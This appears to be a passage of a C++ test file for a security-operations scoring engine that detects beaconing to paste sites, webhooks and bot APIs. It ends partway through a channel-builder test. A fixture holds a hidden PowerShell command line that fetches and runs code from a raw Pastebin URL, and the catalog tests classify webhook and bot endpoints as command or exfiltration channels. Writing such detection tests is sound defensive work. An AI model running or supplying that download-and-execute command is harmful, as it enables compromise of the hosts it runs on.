// The scoring engine: the web-service catalog (against the URL shapes the services document), the
// scoring config and its per-case override, suppression rules, factor sums, and
// the whole engine on a generated case — a host without Sysmon and a DNS-only channel scored,
// re-scoring without re-import, determinism, cancel.
#include "core/resources.h"
#include "scoring/channel_builder.h"
#include "scoring/channel_members.h"
#include "scoring/channel_scorer.h"
#include "scoring/score_job.h"
#include "scoring/scoring_config.h"
#include "scoring/scoring_engine.h"
#include "scoring/suppression_store.h"
#include "scoring/web_service_catalog.h"
#include "store/case_store.h"
#include "store/statement.h"
#include "test_paths.h"

#include <QDir>
#include <QFile>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QThread>
#include <QUrl>

#include <sqlite3.h>

#include <cmath>

using namespace socwb;
using namespace socwb::scoring;
using namespace socwb::test;

namespace {

QJsonObject readJson(const QString& path) {
    QFile f(path);
    f.open(QIODevice::ReadOnly);
    return QJsonDocument::fromJson(f.readAll()).object();
}

QByteArray defaults() {
    return resources::read(QStringLiteral("scoring/scoring.yaml"));
}

// A channel as the builder would measure a fixed-interval PowerShell poll of a raw paste.
ChannelFeatures pastePoll() {
    ChannelFeatures f;
    f.key = QStringLiteral("WKS-LEG-01|powershell|pastebin.com|pastebin.com/raw/Ab12Cd34");
    f.hostId = 1;
    f.host = QStringLiteral("WKS-LEG-01");
    f.hostIps = QStringLiteral("10.0.0.5,10.0.0.6");
    f.hostRole = QStringLiteral("workstation");
    f.processImage = QStringLiteral(R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)");
    f.processName = QStringLiteral("powershell.exe");
    f.commandLine = QStringLiteral(
        "powershell.exe -NoProfile -WindowStyle Hidden -Command iex (iwr https://pastebin.com/raw/Ab12Cd34)");
    f.parentImage = QStringLiteral(R"(C:\Windows\explorer.exe)");
    f.destination = QStringLiteral("pastebin.com");
    f.registeredDomain = QStringLiteral("pastebin.com");
    f.service = QStringLiteral("pastebin");
    f.serviceCategory = QStringLiteral("paste");
    f.consumerService = true;
    f.serviceRisk = 1.0;
    f.endpoint = QStringLiteral("pastebin.com/raw/Ab12Cd34");
    f.endpointName = QStringLiteral("raw paste");
    f.endpointRole = QStringLiteral("command");
    f.pathPrefix = QStringLiteral("/raw/Ab12Cd34");
    f.proxyRequests = 600;
    f.polls = 600;
    f.caseHasProxyLogs = true;
    f.firstTs = 1'000'000'000'000'000;
    f.lastTs = f.firstTs + 600LL * 60'000'000;
    f.intervals = 599;
    f.bandIntervals = 599;
    f.timingSource = QStringLiteral("http");
    f.timingClass = QStringLiteral("request");
    f.events = 600;
    f.medianInterval = 60;
    f.jitter = 0.02;
    f.ritaTs = 0.98;
    f.bandShare = 1;
    f.bandScore = 1;
    f.getShare = 1;
    f.distinctPaths = 1;
    f.medianBytesIn = 690;
    f.responseConstancy = 1;
    return f;
}

double sumOf(const QJsonArray& factors) {
    double s = 0;
    for (const auto& v : factors) {
        s += v.toObject().value("contribution").toDouble();
    }
    return s;
}

} // namespace

class TestScoring : public QObject {
    Q_OBJECT
  private slots:
    void initTestCase();
    void catalogMatchesNamesAndShapes();
    void catalogRefusesBadEntries();
    void catalogMatchesDocumentedUrlShapes_data();
    void catalogMatchesDocumentedUrlShapes();
    void configOverrideAndValidation();
    void suppressionMatching_data();
    void suppressionMatching();
    void suppressionExpiryAndYaml();
    void factorsAddUpToTheScore();
    void fleetWideBehaviourIsDiscounted();
    void builderMeasuresExactFeatures();
    void engineScoresEveryKindOfEvidence();
    void membersAreTheChannelsRequests();
    void rescoreWithoutReimport();
    void sameCaseSameScores();
    void fullScoreLeavesUnchangedRows();
    void cancelKeepsThePreviousScores();
    void cancelRightAfterStartIsKept();

  private:
    QTemporaryDir dir_;
    QString casePath_;
    QJsonObject truth_;
    QString hostOf(const QString& channel) const;
};

QString TestScoring::hostOf(const QString& channel) const {
    for (const auto& v : truth_.value("channels").toArray()) {
        if (v.toObject().value("id").toString() == channel) {
            return v.toObject().value("hosts").toArray().first().toObject().value("name").toString();
        }
    }
    return {};
}

void TestScoring::initTestCase() {
    QVERIFY(dir_.isValid());
    // Ten workstations and four servers for two days, three planted channels among the look-alikes.
    const QString out = dir_.filePath(QStringLiteral("gen"));
    const CliRun g = runCli({"generate", out, "--seed", "11", "--hosts", "10", "--days", "2", "--scenario",
                             "pastebin-powershell,no-sysmon-wscript,dns-only-linux"});
    QVERIFY2(g.exitCode == 0, g.err.constData());
    truth_ = readJson(out + QStringLiteral("/truth.json"));
    casePath_ = dir_.filePath(QStringLiteral("case.socwb"));
    QStringList files{"import", casePath_, "--tz", "UTC"}; // the generator writes UTC
    for (const QString& name : QDir(out).entryList({"*.log", "*.xml", "*.csv"}, QDir::Files)) {
        files << out + QLatin1Char('/') + name;
    }
    QCOMPARE(files.size(), 8); // access.log, dns_debug.log, sysmon.xml, assets.csv
    const CliRun i = runCli(files);
    QVERIFY2(i.exitCode == 0, i.err.constData());
}

void TestScoring::catalogMatchesNamesAndShapes() {
    const WebServiceCatalog c = WebServiceCatalog::load();
    QCOMPARE(c.match("pastebin.com")->id, QStringLiteral("pastebin"));
    QCOMPARE(c.match("www.pastebin.com")->id, QStringLiteral("pastebin"));
    QCOMPARE(c.match("notpastebin.com"), nullptr);
    QCOMPARE(c.match("example.org"), nullptr);
    // The longest domain wins: storage.googleapis.com is Google APIs, firebasestorage.googleapis.com Firebase.
    QCOMPARE(c.match("firebasestorage.googleapis.com")->id, QStringLiteral("firebase"));
    QCOMPARE(c.match("storage.googleapis.com")->id, QStringLiteral("google-apis"));
    const WebService& github = *c.find(QStringLiteral("github"));
    const EndpointMatch raw = c.endpoint(github, "raw.githubusercontent.com", "/acme/tools/main/run.ps1");
    QVERIFY(raw.shape);
    QCOMPARE(raw.shape->role, QStringLiteral("command"));
    QCOMPARE(raw.prefix, QStringLiteral("/acme/tools/main/run.ps1"));
    // Shapes tied to one host do not match on another of the service's hosts.
    QCOMPARE(c.endpoint(github, "api.github.com", "/acme/tools/main/run.ps1").shape, nullptr);
    const EndpointMatch gist = c.endpoint(github, "api.github.com", "/gists/0123456789abcdef0123?x=1");
    QCOMPARE(gist.prefix, QStringLiteral("/gists/0123456789abcdef0123"));
    const EndpointMatch hook =
        c.endpoint(*c.find(QStringLiteral("discord")), "discord.com", "/api/webhooks/1234/AbC_d-9/slack");
    QCOMPARE(hook.shape->role, QStringLiteral("output"));
    QCOMPARE(hook.prefix, QStringLiteral("/api/webhooks/1234/AbC_d-9"));
    const EndpointMatch bot =
        c.endpoint(*c.find(QStringLiteral("telegram")), "api.telegram.org", "/bot6123456789:AAx_y/getUpdates");
    QCOMPARE(bot.shape->name, QStringLiteral("bot updates"));
    // A path that only starts further in does not match (shapes anchor at the start).
    QCOMPARE(c.endpoint(*c.find(QStringLiteral("pastebin")), "pastebin.com", "/x/raw/Ab12Cd34").shape, nullptr);
}

void TestScoring::catalogRefusesBadEntries() {
    try {
        WebServiceCatalog::fromYaml("services:\n  - id: nodomains\n    category: paste\n");
        QFAIL("a service without domains was accepted");
    } catch (const std::runtime_error& e) {
        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("nodomains")), e.what());
    }
    try {
        WebServiceCatalog::fromYaml(
            "services:\n  - id: s\n    domains: [a.com]\n    endpoints:\n      - {name: bad, path: '^/(['}\n");
        QFAIL("a bad endpoint pattern was accepted");
    } catch (const std::runtime_error& e) {
        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("endpoint 'bad'")), e.what());
    }
    QVERIFY_THROWS_EXCEPTION(std::runtime_error, WebServiceCatalog::fromYaml("servic: []"));
}

void TestScoring::catalogMatchesDocumentedUrlShapes_data() {
    // URLs in the shapes the services' own documentation gives (placeholders filled in), not the
    // shapes the scenario generator writes: the catalog must name the service, the endpoint's role
    // and the part of the path that is one endpoint.
    QTest::addColumn<QString>("url");
    QTest::addColumn<QString>("service");
    QTest::addColumn<QString>("role"); // empty: no endpoint shape
    QTest::addColumn<QString>("prefix");
    // Telegram Bot API, "Making requests": https://api.telegram.org/bot<token>/METHOD_NAME; files at
    // https://api.telegram.org/file/bot<token>/<file_path> (https://core.telegram.org/bots/api).
    QTest::newRow("telegram getUpdates")
        << "https://api.telegram.org/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/getUpdates?offset=5"
        << "telegram"
        << "command"
        << "/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/getUpdates";
    QTest::newRow("telegram sendMessage")
        << "https://api.telegram.org/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/sendMessage"
        << "telegram"
        << "output"
        << "/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/sendMessage";
    QTest::newRow("telegram file")
        << "https://api.telegram.org/file/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/documents/f.txt"
        << "telegram"
        << "payload"
        << "/file/bot123456789:ABCdefGhIJKlmNoPQRsTUVwxyZ/";
    // GitHub: raw files at raw.githubusercontent.com/<owner>/<repo>/<ref>/<path>; a gist's raw file
    // at gist.githubusercontent.com/<user>/<gist_id>/raw/<file>; "Get a gist": GET /gists/{gist_id}
    // (https://docs.github.com/en/rest/gists/gists); release assets at
    // github.com/<owner>/<repo>/releases/download/<tag>/<file>.
    QTest::newRow("github raw") << "https://raw.githubusercontent.com/octocat/Hello-World/master/README"
                                << "github"
                                << "command"
                                << "/octocat/Hello-World/master/README";
    QTest::newRow("gist raw") << "https://gist.githubusercontent.com/octocat/6cad326836d38bd3a7ae/raw/hello.txt"
                              << "github"
                              << "command"
                              << "/octocat/6cad326836d38bd3a7ae/raw";
    QTest::newRow("gist API") << "https://api.github.com/gists/aa5a315d61ae9438b18d"
                              << "github"
                              << "command"
                              << "/gists/aa5a315d61ae9438b18d";
    QTest::newRow("github release asset") << "https://github.com/octocat/Hello-World/releases/download/v1.0.0/x.zip"
                                          << "github"
                                          << "payload"
                                          << "/octocat/Hello-World/releases/download/";
    QTest::newRow("github web page") << "https://github.com/octocat/Hello-World"
                                     << "github"
                                     << ""
                                     << "";
    // Pastebin API (https://pastebin.com/doc_api): raw pastes at https://pastebin.com/raw/<key>,
    // pastes created by POST to https://pastebin.com/api/api_post.php.
    QTest::newRow("pastebin raw") << "https://pastebin.com/raw/0b42rwhf"
                                  << "pastebin"
                                  << "command"
                                  << "/raw/0b42rwhf";
    QTest::newRow("pastebin api_post") << "https://pastebin.com/api/api_post.php"
                                       << "pastebin"
                                       << "output"
                                       << "/api/api_post.php";
    QTest::newRow("pastebin profile") << "https://pastebin.com/u/someone"
                                      << "pastebin"
                                      << ""
                                      << "";
    // Google Docs: a document exported as text, https://docs.google.com/document/d/<id>/export?format=txt
    // (https://developers.google.com/drive/api/guides/ref-export-formats; the Drive API's exportLinks).
    QTest::newRow("docs export") << "https://docs.google.com/document/d/1A2b3C4d5E6f7G8h9I0j/export?format=txt"
                                 << "google-docs"
                                 << "command"
                                 << "/document/d/1A2b3C4d5E6f7G8h9I0j/export";
    // Discord "Execute Webhook": POST /webhooks/{webhook.id}/{webhook.token} under
    // https://discord.com/api[/v{version}] (https://discord.com/developers/docs/resources/webhook).
    QTest::newRow("discord webhook") << "https://discord.com/api/webhooks/223704706495545344/3d89bb7572e0fb30d8128367"
                                     << "discord"
                                     << "output"
                                     << "/api/webhooks/223704706495545344/3d89bb7572e0fb30d8128367";
    QTest::newRow("discord webhook v10") << "https://discord.com/api/v10/webhooks/2237047/abc_DEF-9?wait=true"
                                         << "discord"
                                         << "output"
                                         << "/api/v10/webhooks/2237047/abc_DEF-9";
    // Slack incoming webhooks: https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX
    // (https://api.slack.com/messaging/webhooks).
    QTest::newRow("slack webhook") << "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
                                   << "slack"
                                   << "output"
                                   << "/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX";
    // Dropbox HTTP API: POST https://content.dropboxapi.com/2/files/download and /2/files/upload
    // (https://www.dropbox.com/developers/documentation/http/documentation).
    QTest::newRow("dropbox download") << "https://content.dropboxapi.com/2/files/download"
                                      << "dropbox"
                                      << "command"
                                      << "/2/files/download";
    QTest::newRow("dropbox upload") << "https://content.dropboxapi.com/2/files/upload"
                                    << "dropbox"
                                    << "output"
                                    << "/2/files/upload";
    // OneDrive "Accessing shared items": GET /shares/{shareIdOrEncodedSharingUrl}/root/content
    // (https://learn.microsoft.com/en-us/onedrive/developer/rest-api/api/shares_get).
    QTest::newRow("onedrive share") << "https://api.onedrive.com/v1.0/shares/u!aHR0cHM6Ly8xZHJ2Lm1z/root/content"
                                    << "onedrive"
                                    << "command"
                                    << "/v1.0/shares/u!aHR0cHM6Ly8xZHJ2Lm1z/root/content";
    // GitLab: "Get raw snippet content" GET /snippets/:id/raw (https://docs.gitlab.com/ee/api/snippets.html).
    QTest::newRow("gitlab snippet") << "https://gitlab.com/api/v4/snippets/1234/raw"
                                    << "gitlab"
                                    << "command"
                                    << "/api/v4/snippets/1234/raw";
    // Reddit API: GET /user/{username}/about (https://www.reddit.com/dev/api), JSON with .json.
    QTest::newRow("reddit about") << "https://www.reddit.com/user/spez/about.json"
                                  << "reddit"
                                  << "command"
                                  << "/user/spez/about.json";
    // Microsoft Teams incoming webhooks: https://<tenant>.webhook.office.com/webhookb2/<ids>
    // (https://learn.microsoft.com/en-us/microsoftteams/platform/webhooks-and-connectors/how-to/add-incoming-webhook).
    QTest::newRow("teams webhook") << "https://contoso.webhook.office.com/webhookb2/a1b2@c3d4/IncomingWebhook/e5/f6"
                                   << "microsoft-teams"
                                   << "output"
                                   << "/webhookb2/a1b2@c3d4";
}

void TestScoring::catalogMatchesDocumentedUrlShapes() {
    QFETCH(QString, url);
    QFETCH(QString, service);
    QFETCH(QString, role);
    QFETCH(QString, prefix);
    const WebServiceCatalog c = WebServiceCatalog::load();
    const QUrl u(url);
    const std::string host = u.host().toStdString();
    const WebService* s = c.match(host);
    QVERIFY2(s, qPrintable(url));
    QCOMPARE(s->id, service);
    QString path = u.path(QUrl::FullyEncoded);
    if (u.hasQuery()) {
        path += QLatin1Char('?') + u.query(QUrl::FullyEncoded);
    }
    const EndpointMatch m = c.endpoint(*s, host, path.toStdString());
    QCOMPARE(m.shape ? m.shape->role : QString(), role);
    QCOMPARE(m.shape ? m.prefix : QString(), prefix);
}

void TestScoring::configOverrideAndValidation() {
    const ScoringConfig base = ScoringConfig::fromYaml(defaults());
    const ScoringConfig tuned = ScoringConfig::fromYaml(defaults(), "weights:\n  periodicity: 5\nbrowsers: [lynx]\n");
    QCOMPARE(tuned.weight("periodicity"), 5.0);
    QCOMPARE(tuned.weight("web_service"), base.weight("web_service"));
    QCOMPARE(tuned.browsers, (std::set<std::string>{"lynx"}));
    QVERIFY(tuned.sha256 != base.sha256);
    QCOMPARE(base.severityFor(80), QStringLiteral("critical"));
    QCOMPARE(base.severityFor(79.99), QStringLiteral("high"));
    QCOMPARE(base.severityFor(0), QStringLiteral("info"));
    try {
        ScoringConfig::fromYaml(defaults(), "weights:\n  periodicity: lots\n");
        QFAIL("a weight that is not a number was accepted");
    } catch (const std::runtime_error& e) {
        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("weights.periodicity")), e.what());
    }
    QVERIFY_THROWS_EXCEPTION(std::runtime_error, ScoringConfig::fromYaml("weights: {periodicity: 1}\n"));
    QVERIFY_THROWS_EXCEPTION(std::runtime_error, ScoringConfig::fromYaml(defaults(), "hidden_command_line: ['(']\n"));
}

void TestScoring::suppressionMatching_data() {
    QTest::addColumn<QString>("field");
    QTest::addColumn<QString>("value");
    QTest::addColumn<bool>("matches");
    QTest::newRow("host glob") << "host"
                               << "wks-leg-*" << true;
    QTest::newRow("host other") << "host"
                                << "WKS-FIN-*" << false;
    QTest::newRow("host address") << "host"
                                  << "10.0.0.6" << true;
    QTest::newRow("role") << "role"
                          << "Workstation" << true;
    QTest::newRow("role other") << "role"
                                << "domain-controller" << false;
    QTest::newRow("process file name") << "process"
                                       << "POWERSHELL.EXE" << true;
    QTest::newRow("process path glob") << "process"
                                       << R"(C:\Windows\System32\*)" << true;
    QTest::newRow("process other") << "process"
                                   << "git.exe" << false;
    QTest::newRow("destination") << "destination"
                                 << "pastebin.com" << true;
    QTest::newRow("destination parent") << "destination"
                                        << "com" << true;
    QTest::newRow("destination lookalike") << "destination"
                                           << "tebin.com" << false;
    QTest::newRow("url prefix with scheme") << "url"
                                            << "https://pastebin.com/raw/" << true;
    QTest::newRow("url other paste") << "url"
                                     << "pastebin.com/raw/Zz" << false;
}

void TestScoring::suppressionMatching() {
    QFETCH(QString, field);
    QFETCH(QString, value);
    QFETCH(bool, matches);
    SuppressionRule r;
    r.reason = QStringLiteral("test");
    (field == QLatin1String("host")          ? r.host
     : field == QLatin1String("role")        ? r.hostRole
     : field == QLatin1String("process")     ? r.process
     : field == QLatin1String("destination") ? r.destination
                                             : r.urlPrefix) = value;
    QCOMPARE(r.matches(pastePoll()), matches);
    // Every criterion must hold: adding one that fails turns any match off.
    r.hostRole = QStringLiteral("server");
    QCOMPARE(r.matches(pastePoll()), false);
}

void TestScoring::suppressionExpiryAndYaml() {
    SuppressionRule r;
    r.destination = QStringLiteral("github.com");
    r.reason = QStringLiteral("developers' git");
    r.author = QStringLiteral("alice");
    r.createdAt = QStringLiteral("2024-03-01T00:00:00Z");
    r.expiresAt = QStringLiteral("2024-03-10T00:00:00Z");
    QVERIFY(r.isActive(QDateTime::fromString(QStringLiteral("2024-03-09T23:59:59Z"), Qt::ISODate)));
    QVERIFY(!r.isActive(QDateTime::fromString(QStringLiteral("2024-03-10T00:00:00Z"), Qt::ISODate)));
    r.enabled = false;
    QVERIFY(!r.isActive(QDateTime::fromString(QStringLiteral("2024-03-02T00:00:00Z"), Qt::ISODate)));
    r.enabled = true;
    SuppressionRule q;
    q.process = QStringLiteral(R"(*\git.exe)");
    q.reason = QStringLiteral("quote \" and colon: fine");
    const QVector<SuppressionRule> back = suppressionsFromYaml(suppressionsToYaml({r, q}));
    QCOMPARE(back.size(), 2);
    QCOMPARE(back[0].destination, r.destination);
    QCOMPARE(back[0].expiresAt, r.expiresAt);
    QCOMPARE(back[0].author, r.author);
    QCOMPARE(back[1].process, q.process);
    QCOMPARE(back[1].reason, q.reason);
    try {
        suppressionsFromYaml("suppressions:\n  - {destination: a.com, reason: ok}\n  - {destination: b.com}\n");
        QFAIL("a rule without a reason was accepted");
    } catch (const std::runtime_error& e) {
        QVERIFY2(QString::fromUtf8(e.what()).contains(QLatin1String("entry 2")), e.what());
    }
    QVERIFY_THROWS_EXCEPTION(std::runtime_error, suppressionsFromYaml("suppressions:\n  - {reason: no criterion}\n"));
}

void TestScoring::factorsAddUpToTheScore() {
    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
    ChannelFeatures quiet = pastePoll();
    quiet.key = QStringLiteral("other");
    quiet.processImage = QStringLiteral(R"(C:\Program Files\Google\Chrome\Application\chrome.exe)");
    quiet.processName = QStringLiteral("chrome.exe");
    quiet.commandLine.clear();
    quiet.polls = 3; // two gaps: too few to judge a cadence
    quiet.intervals = 2;
    quiet.bandIntervals = 2;
    quiet.proxyRequests = 3;
    quiet.service.clear();
    quiet.endpoint.clear();
    const std::vector<ScoredChannel> s =
        ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score({pastePoll(), quiet});
    QCOMPARE(s.size(), size_t(2));
    for (const ScoredChannel& sc : s) {
        QVERIFY2(std::abs(sumOf(sc.factorsJson()) - sc.score) < 1e-9,
                 qPrintable(QStringLiteral("%1 vs %2").arg(sumOf(sc.factorsJson())).arg(sc.score)));
    }
    // The paste poll: periodicity 24, service 12, endpoint 10, one-way 10 x (1+1)/2, scripting 10,
    // hidden command line 8 — and no fleet context (two hosts make no fleet).
    QCOMPARE(s[0].score, 24.0 + 12 + 10 + 10 + 10 + 8);
    QCOMPARE(s[0].severity, QStringLiteral("high"));
    // A browser with few requests to an uncatalogued site: -22, clamped to 0, with the clamp shown.
    QCOMPARE(s[1].score, 0.0);
    QCOMPARE(s[1].factors.front().name, QStringLiteral("browser"));
    bool clamp = false;
    for (const Factor& f : s[1].factors) {
        clamp = clamp || (f.name == QLatin1String("clamp") && f.contribution == 22);
    }
    QVERIFY(clamp);
}

void TestScoring::fleetWideBehaviourIsDiscounted() {
    const ScoringConfig c = ScoringConfig::fromYaml(defaults());
    std::vector<ChannelFeatures> fleet;
    for (int h = 1; h <= 6; ++h) {
        ChannelFeatures f = pastePoll();
        f.hostId = h;
        f.host = QStringLiteral("WKS-%1").arg(h);
        f.key = f.host;
        f.medianInterval = 60 + h; // the same cadence, give or take
        fleet.push_back(f);
    }
    const std::vector<ScoredChannel> s = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score(fleet);
    const auto fleetFactor = std::find_if(s[0].factors.begin(), s[0].factors.end(),
                                          [](const Factor& f) { return f.name == QLatin1String("fleet_wide"); });
    QVERIFY(fleetFactor != s[0].factors.end());
    QCOMPARE(fleetFactor->contribution, -35.0);
    QVERIFY2(fleetFactor->detail.contains(QLatin1String("on 6 of 6 workstations")), qPrintable(fleetFactor->detail));
    QCOMPARE(s[0].score, 74.0 - 35.0);
    // One host alone with that behaviour is rare instead.
    fleet.resize(1);
    for (int h = 2; h <= 4; ++h) {
        ChannelFeatures other = pastePoll();
        other.hostId = h;
        other.destination = other.registeredDomain = QStringLiteral("example.org");
        other.service.clear();
        other.endpoint.clear();
        fleet.push_back(other);
    }
    const ScoredChannel alone = ChannelScorer(c, {}, QDateTime::currentDateTimeUtc()).score(fleet)[0];
    // Rare, and the only host running powershell.exe against pastebin.
    QCOMPARE(alone.score, 74.0 + 8.0 + 6.0);
}

void TestScoring::builderMeasuresExactFeatures() {
    // A case written row by row, so every feature has one right value.
    QTemporaryDir d;
    auto store = CaseStore::open(d.filePath(QStringLiteral("fixture.socwb")));
    sqlite3* db = store->db();
    constexpr int64_t t0 = 1709510400LL * 1000000; // 2024-03-04T00:00:00Z
    constexpr int64_t s = 1000000;
    execSql(db, R"SQL(
INSERT INTO evidence(id, path, sha256, size, format, status) VALUES (1, 'fixture', 'x', 0, 'squid', 'imported');
INSERT INTO hosts(id, name, role, source) VALUES (1, 'WS-A', 'workstation', 'asset'), (2, 'WS-B', 'workstation', 'asset'),
    (3, 'SRV', 'database-server', 'asset');
INSERT INTO host_addresses(ip, host_id, source) VALUES ('10.0.0.11', 1, 'asset'), ('10.0.0.12', 2, 'asset');
INSERT INTO domains(id, name, reg_domain, service_domain) VALUES (1, 'pastebin.com', 'pastebin.com', 'pastebin.com'),
    (2, 'www.example.org', 'example.org', 'example.org'), (3, 'discord.com', 'discord.com', 'discord.com'),
    (4, 'rentry.co', 'rentry.co', 'rentry.co');
INSERT INTO processes(id, host_id, process_guid, image, command_line, parent_image, user_name, known_from) VALUES
    (1, 1, '{1}', 'C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe', 'powershell -w hidden -c loop',
     'C:\Windows\explorer.exe', 'CORP\ann', 'create'),
    (2, 1, '{2}', 'C:\Program Files\Google\Chrome\Application\chrome.exe', 'chrome.exe', 'C:\Windows\explorer.exe',
     'CORP\ann', 'create'),
    (3, 2, '{3}', 'C:\Users\bob\AppData\Local\Programs\Python\Python311\python.exe', 'python.exe x.py',
     'C:\Windows\explorer.exe', 'CORP\bob', 'create');
)SQL");
    Statement proxy(
        db, "INSERT INTO proxy_events(id, evidence_id, line_no, ts_us, host_id, domain_id, method, path, bytes_out, "
            "bytes_in) VALUES (?, 1, ?, ?, ?, ?, ?, ?, 300, ?)");
    Statement attribute(db, "INSERT INTO attributions(request_kind, request_id, process_id, method, confidence) "
                            "VALUES ('proxy', ?, ?, ?, ?)");
    int64_t id = 0;
    // WS-A's PowerShell polls one raw paste every 360 s from 01:00, twenty times; polls 12 and 16
    // get a longer answer (a command waits), and 20 s later the same process posts to a webhook.
    for (int k = 0; k < 20; ++k) {
        const int64_t ts = t0 + (3600 + 360 * k) * s;
        proxy.reset();
        ++id;
        proxy.bind(1, id)
            .bind(2, id)
            .bind(3, ts)
            .bind(4, 1)
            .bind(5, 1)
            .bind(6, "GET")
            .bind(7, "/raw/Ab12Cd34")
            .bind(8, (k == 12 || k == 16) ? 2000 : 690);
        proxy.exec();
        // Two polls have no process, one only a time-window guess: both join the only process.
        if (k != 3 && k != 7) {
            attribute.reset();
            attribute.bind(1, id)
                .bind(2, k == 9 ? 2 : 1)
                .bind(3, k == 9 ? "time-window" : "five-tuple")
                .bind(4, k == 9 ? 0.5 : 0.95);
            attribute.exec();
        }
        if (k == 12 || k == 16) {
            proxy.reset();
            ++id;
            proxy.bind(1, id)
                .bind(2, id)
                .bind(3, ts + 20 * s)
                .bind(4, 1)
                .bind(5, 3)
                .bind(6, "POST")
                .bind(7, "/api/webhooks/123/abc-_x")
                .bind(8, 0);
            proxy.exec();
            attribute.reset();
            attribute.bind(1, id).bind(2, 1).bind(3, "five-tuple").bind(4, 0.95);
            attribute.exec();
        }
    }
    // Chrome on WS-A: ten page loads in hour 1 only (so hour 2 is idle).
    for (int k = 0; k < 10; ++k) {
        proxy.reset();
        ++id;
        proxy.bind(1, id)
            .bind(2, id)
            .bind(3, t0 + (3700 + (k % 5) + 600 * (k / 5)) * s)
            .bind(4, 1)
            .bind(5, 2)
            .bind(6, "GET")
            .bind(7, QStringLiteral("/page%1").arg(k).toStdString())
            .bind(8, 5000 + k);
        proxy.exec();
        attribute.reset();
        attribute.bind(1, id).bind(2, 2).bind(3, "five-tuple").bind(4, 0.95);
        attribute.exec();
    }
    // SRV resolves rentry.co every 600 s from 00:00 and sends nothing through the proxy.
    Statement dns(db, "INSERT INTO dns_events(evidence_id, line_no, ts_us, host_id, domain_id) VALUES (1, ?, ?, 3, 4)");
    for (int k = 0; k < 10; ++k) {
        dns.reset();
        dns.bind(1, k).bind(2, t0 + 600 * k * s);
        dns.exec();
    }
    // WS-B's python connects to 104.20.1.1 every 300 s; its Sysmon DNS query names the address.
    // A connection a proxy request already stands for, and one to the proxy, are not counted.
    Statement sysmon(db, "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
                         "VALUES (?, 1, ?, ?, 2, ?, 3)");
    Statement conn(
        db, "INSERT INTO net_connections(event_id, host_id, process_id, ts_us, initiated, src_ip, dst_ip, dst_port) "
            "VALUES (?, 2, 3, ?, 1, '10.0.0.12', ?, ?)");
    int64_t ev = 0;
    for (int k = 0; k < 8; ++k) {
        const int64_t ts = t0 + (1800 + 300 * k) * s;
        sysmon.reset();
        ++ev;
        sysmon.bind(1, ev).bind(2, ev).bind(3, ts).bind(4, 3);
        sysmon.exec();
        conn.reset();
        conn.bind(1, ev).bind(2, ts).bind(3, k == 7 ? "10.0.0.5" : "104.20.1.1").bind(4, k == 7 ? 3128 : 443);
        conn.exec();
    }
    execSql(db, "INSERT INTO sysmon_events(id, evidence_id, record_no, ts_us, host_id, event_id, process_id) "
                "VALUES (100, 1, 100, " +
                    std::to_string(t0 + 1700 * s) +
                    ", 2, 22, 3);"
                    "INSERT INTO dns_queries(event_id, host_id, process_id, ts_us, domain_id, answers) "
                    "VALUES (100, 2, 3, " +
                    std::to_string(t0 + 1700 * s) +
                    ", 1, '104.20.1.1');"
                    // The attribution table itself (schema 15; method 0 is five-tuple): a view takes no upsert.
                    "INSERT INTO proxy_attributions(request_id, process_id, method, confidence, matched_event_id) "
                    "VALUES (1, 1, 0, 0.95, 7) ON CONFLICT DO UPDATE SET matched_event_id = 7;");

    const ScoringConfig config = ScoringConfig::fromYaml(defaults());
    const WebServiceCatalog catalog = WebServiceCatalog::load();
    ChannelBuilder builder(db, catalog, config);
    std::vector<BuiltChannel> built = builder.build();
    QCOMPARE(builder.eventsRead(), int64_t(32 + 10 + 1 + 8)); // proxy, DNS log, Sysmon DNS, connections read
    std::map<QString, const ChannelFeatures*> byDest;
    for (const BuiltChannel& b : built) {
        byDest[b.features.host + QLatin1Char(' ') + b.features.destination] = &b.features;
    }
    QCOMPARE(byDest.size(), size_t(5));
    QCOMPARE(built.size(), size_t(5));

    const ChannelFeatures& a = *byDest.at(QStringLiteral("WS-A pastebin.com"));
    QCOMPARE(
        a.key,
        QStringLiteral(
            R"(WS-A|c:\windows\system32\windowspowershell\v1.0\powershell.exe|pastebin.com|pastebin.com/raw/Ab12Cd34)"));
    QCOMPARE(a.processName, QStringLiteral("powershell.exe"));
    QCOMPARE(a.commandLine, QStringLiteral("powershell -w hidden -c loop"));
    QCOMPARE(a.userName, QStringLiteral(R"(CORP\ann)"));
    QCOMPARE(a.hostIps, QStringLiteral("10.0.0.11"));
    QCOMPARE(a.processCount, int64_t(1));
    QCOMPARE(a.service, QStringLiteral("pastebin"));
    QCOMPARE(a.endpointName, QStringLiteral("raw paste"));
    QCOMPARE(a.proxyRequests, int64_t(20));
    QCOMPARE(a.polls, int64_t(20));
    QCOMPARE(a.timingSource, QStringLiteral("http"));
    QCOMPARE(a.members, (std::vector<MemberCount>{{"http", "record", 20}}));
    QCOMPARE(a.intervals, int64_t(19));
    QCOMPARE(a.medianInterval, 360.0);
    QCOMPARE(a.jitter, 0.0);
    QCOMPARE(a.bandShare, 1.0);
    QCOMPARE(a.ritaTs, 1.0);
    QCOMPARE(a.getShare, 1.0);
    QCOMPARE(a.distinctPaths, int64_t(1));
    QCOMPARE(a.medianBytesOut, 300.0);
    QCOMPARE(a.medianBytesIn, 690.0);
    QCOMPARE(a.responseConstancy, 0.9);
    QCOMPARE(a.requestConstancy, 1.0);
    QCOMPARE(a.responseChanges, int64_t(2));
